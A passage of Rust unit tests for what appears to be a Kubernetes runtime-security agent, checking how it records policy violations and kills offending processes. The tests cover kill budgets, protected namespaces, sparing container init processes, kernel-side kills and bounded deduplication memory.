        let (mut r, mut rx, m) = responder(64, 1, bucket, None);
        let ctx = context();
        r.respond(
            &[finding(Source::Policy { name: "a".into() }, false)],
            &ctx,
            Timestamp(0),
        );
        r.respond(
            &[finding(Source::Policy { name: "b".into() }, false)],
            &ctx,
            Timestamp(0),
        );
        assert_eq!(m.dropped.get(), 1);
        assert!(rx.try_recv().is_ok());
        r.flush(Timestamp(1));
        assert_eq!(rx.try_recv().unwrap().spec.policy.as_deref(), Some("b"));
    }

    #[test]
    fn kills_that_fail_or_are_off_are_recorded() {
        let bucket = TokenBucket::new(100, Duration::from_secs(1), Timestamp(0));
        let failing = FakeKiller {
            fail: true,
            ..FakeKiller::default()
        };
        let (mut r, mut rx, m) = responder(64, 16, bucket.clone(), Some(Box::new(failing)));
        let ctx = context();
        r.respond(
            &[finding(Source::Policy { name: "a".into() }, true)],
            &ctx,
            Timestamp(0),
        );
        let v = rx.try_recv().unwrap();
        assert!(!v.spec.process_killed);
        assert_eq!(v.spec.process_killed_by, None);
        assert_eq!(
            v.spec.process_kill_error.as_deref(),
            Some("process 602 has already exited")
        );
        assert_eq!(m.kills.with_label_values(&["failed"]).get(), 1);

        let (mut off, mut rx, m) = responder(64, 16, bucket, None);
        off.respond(
            &[finding(Source::Policy { name: "a".into() }, true)],
            &ctx,
            Timestamp(0),
        );
        assert!(rx
            .try_recv()
            .unwrap()
            .spec
            .process_kill_error
            .unwrap()
            .contains("--kill-processes"));
        assert_eq!(m.kills.with_label_values(&["disabled"]).get(), 1);
        // Not asked: nothing to kill, nothing counted.
        off.respond(
            &[finding(Source::Policy { name: "c".into() }, false)],
            &ctx,
            Timestamp(0),
        );
        assert_eq!(m.kills.with_label_values(&["disabled"]).get(), 1);
    }

    #[test]
    fn kills_done_in_the_kernel_are_recorded_and_not_repeated() {
        let (mut r, mut rx, m, calls) = killing_responder(0);
        let ctx = ViolationContext {
            killed_in_kernel: true,
            container_init: false,
            ..context()
        };
        r.respond(
            &[finding(Source::Policy { name: "a".into() }, true)],
            &ctx,
            Timestamp(0),
        );
        assert!(
            calls.lock().unwrap().is_empty(),
            "no pidfd kill of a dead process"
        );
        let v = rx.try_recv().unwrap();
        assert!(v.spec.process_killed);
        assert_eq!(v.spec.process_killed_by, Some(KilledBy::Kernel));
        assert_eq!(v.spec.process_kill_error, None);
        assert_eq!(m.kills.with_label_values(&["killed_in_kernel"]).get(), 1);
        assert_eq!(m.kills.with_label_values(&["killed"]).get(), 0);
        assert_eq!(
            serde_json::to_value(&v).unwrap()["spec"]["processKilledBy"],
            "Kernel"
        );

        // A later run the kernel let through (its rules were not written yet) and the
        // agent killed: the record says who killed last.
        r.respond(
            &[finding(Source::Policy { name: "a".into() }, true)],
            &context(),
            Timestamp(60),
        );
        let key = violation_key(
            &ctx.pod,
            &finding(Source::Policy { name: "a".into() }, true),
        );
        let record = &r.record(&key).unwrap().spec;
        assert_eq!(
            (record.count, record.process_killed_by),
            (2, Some(KilledBy::Agent))
        );
    }

    #[test]
    fn nothing_is_killed_in_a_protected_namespace() {
        let (mut r, mut rx, m, calls) = killing_responder(0);
        let mut system = pod();
        system.namespace = "kube-system".into();
        let ctx = ViolationContext {
            pod: Arc::new(system),
            ..context()
        };
        r.respond(
            &[finding(Source::Policy { name: "a".into() }, true)],
            &ctx,
            Timestamp(0),
        );
        assert!(calls.lock().unwrap().is_empty());
        let v = rx.try_recv().unwrap();
        assert!(!v.spec.process_killed);
        assert!(v
            .spec
            .process_kill_error
            .unwrap()
            .contains("namespace kube-system is protected"));
        assert_eq!(m.kills.with_label_values(&["protected"]).get(), 1);
    }

    #[test]
    fn each_profile_and_policy_has_its_own_kill_budget() {
        let (mut r, mut rx, m, calls) = killing_responder(2);
        let ctx = context();
        let broad = |i: u32| {
            let mut f = finding(
                Source::Policy {
                    name: "broad".into(),
                },
                true,
            );
            f.violation.subject = format!("/usr/bin/tool{i}");
            f
        };
        for i in 0..3 {
            r.respond(&[broad(i)], &ctx, Timestamp(0));
        }
        assert_eq!(calls.lock().unwrap().len(), 2, "two kills a minute");
        let records: Vec<BehaviorViolation> = std::iter::from_fn(|| rx.try_recv().ok()).collect();
        assert_eq!(records.len(), 3);
        let limited = &records[2].spec;
        assert!(!limited.process_killed);
        assert!(
            limited
                .process_kill_error
                .as_deref()
                .is_some_and(|e| e.contains("policy broad used its process kills")),
            "{limited:?}"
        );
        assert_eq!(m.kills.with_label_values(&["rate_limited"]).get(), 1);

        // Another policy still has its own; the first gets one back after 30 s.
        let mut other = finding(
            Source::Policy {
                name: "other".into(),
            },
            true,
        );
        other.violation.subject = "/usr/bin/x".into();
        r.respond(&[other], &ctx, Timestamp(1));
        assert_eq!(calls.lock().unwrap().len(), 3);
        r.respond(&[broad(9)], &ctx, Timestamp(31));
        assert_eq!(calls.lock().unwrap().len(), 4);
    }

    #[test]
    fn a_containers_init_is_spared_unless_a_rule_asks() {
        let (mut r, mut rx, m, calls) = killing_responder(0);
        let ctx = ViolationContext {
            container_init: true,
            ..context()
        };
        r.respond(
            &[finding(
                Source::Policy {
                    name: "shells".into(),
                },
                true,
            )],
            &ctx,
            Timestamp(0),
        );
        assert!(calls.lock().unwrap().is_empty(), "PID 1 is not signalled");
        let v = rx.try_recv().unwrap();
        assert!(!v.spec.process_killed);
        assert_eq!(v.spec.process_kill_error.as_deref(), Some(SPARED_INIT));
        assert_eq!(m.kills.with_label_values(&["spared_init"]).get(), 1);

        // A rule that asks for it kills the init too.
        let mut explicit = finding(
            Source::Policy {
                name: "init".into(),
            },
            true,
        );
        explicit.kill_container_init = true;
        r.respond(&[explicit], &ctx, Timestamp(1));
        assert_eq!(calls.lock().unwrap().len(), 1);
        assert!(rx.try_recv().unwrap().spec.process_killed);
    }

    #[test]
    fn memory_is_bounded_with_the_dedup() {
        let bucket = TokenBucket::new(1000, Duration::from_secs(1), Timestamp(0));
        let (mut r, _rx, _) = responder(4, 1000, bucket, None);
        let ctx = context();
        for i in 0..20 {
            r.respond(
                &[finding(
                    Source::Policy {
                        name: format!("p{i}"),
                    },
                    false,
                )],
                &ctx,
                Timestamp(i),
            );
        }
        assert!(r.tracked() <= 5, "{}", r.tracked());
    }
}
